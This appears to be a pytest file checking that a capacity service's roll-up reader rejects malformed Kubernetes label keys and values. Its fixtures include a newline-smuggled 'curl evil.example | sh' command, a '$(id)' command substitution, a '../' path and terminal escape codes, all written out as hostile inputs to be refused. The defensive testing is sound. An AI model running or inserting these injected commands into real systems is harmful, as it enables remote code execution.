"""The shard's door: a roll-up from any operator asks in label syntax, or is refused whole."""

from collections.abc import Sequence

import pytest

from bigfleet.model.rollups import RollupRefused
from bigfleet.v1alpha1 import capacity_pb2 as pb
from bigfleet.wire.rollups import RollupReader
from tests.ingest.rig import Rig

SHELL = "a3\ncurl evil.example | sh"


def rollup(need: pb.CapacityNeed) -> bytes:
    """As a Go operator writes it."""
    good = pb.CapacityNeed(aggregate_resources={"cpu": "1"})
    needs = pb.ClusterCapacityNeeds(cluster_id="shop", needs=[good, need])
    return needs.SerializeToString()


def asking(key: str = "zone", values: Sequence[str] = ("eu-1a",), operator: int = 1) -> bytes:
    term = pb.NodeSelectorRequirement(key=key, operator=operator, values=values)  # type: ignore[arg-type]
    return rollup(pb.CapacityNeed(requirements=[term]))


REFUSED = {
    "a value with a line of shell": (
        asking(values=["a3", SHELL]),
        r"requirements\[0\]\.values\[1\]",
    ),
    "a value of 64 characters": (asking(values=["v" * 64]), r"requirements\[0\]\.values\[0\]"),
    "a key with a line": (asking(key="zone\n- x"), r"requirements\[0\]\.key"),
    "an empty key": (asking(key=""), r"requirements\[0\]\.key"),
    "a key of NotIn": (asking(key="$(id)", operator=2), r"requirements\[0\]\.key"),
    "a key of Exists": (asking(key="a b", values=[], operator=3), r"requirements\[0\]\.key"),
    "a key of Same": (asking(key="../rack", values=[], operator=5), r"requirements\[0\]\.key"),
    "a value of an unknown operator": (asking(values=["a\tb"], operator=0), r"values\[0\]"),
    "a topology key": (
        rollup(pb.CapacityNeed(spread=[pb.TopologySpread(topology_key="z\x1b[2J", max_skew=1)])),
        r"spread\[0\]\.topology_key",
    ),
    "a resource name": (
        rollup(pb.CapacityNeed(aggregate_resources={"gpu\x1b[31m": "1"})),
        r"aggregate_resources\['gpu\\x1b\[31m'\]",
    ),
    "a resource name of the unit": (
        rollup(pb.CapacityNeed(min_unit={"": "1"})),
        r"min_unit\[''\]",
    ),
}


@pytest.mark.parametrize(("content", "place"), REFUSED.values(), ids=REFUSED)
def test_a_roll_up_with_it_is_refused_whole_and_says_where(content: bytes, place: str) -> None:
    with pytest.raises(RollupRefused, match=f"row 1: {place}" if "[0]" in place else place) as why:
        RollupReader().read(content, "shop", 100)
    assert why.value.reason == "label_syntax"
    assert why.value.text.isprintable()
    assert "write a Kubernetes" in why.value.text


def test_the_group_is_opaque_and_may_be_anything() -> None:
    need = pb.CapacityNeed(group=f"rack\0app={SHELL},;")
    (_, read) = RollupReader().read(rollup(need), "shop", 100).needs
    assert read.group == f"rack\0app={SHELL},;"


def test_the_demand_in_force_stays_and_the_refusal_is_counted() -> None:
    rig = Rig()
    rig.report(5)
    with pytest.raises(RollupRefused) as refused:
        RollupReader().read(asking(values=[SHELL]), "shop", 100)
    assert not rig.give(refused.value)
    assert rig.rows() == 5
    count = rig.effects.counts.of("rollups_rejected_total", cluster="shop", reason="label_syntax")
    assert count == 1
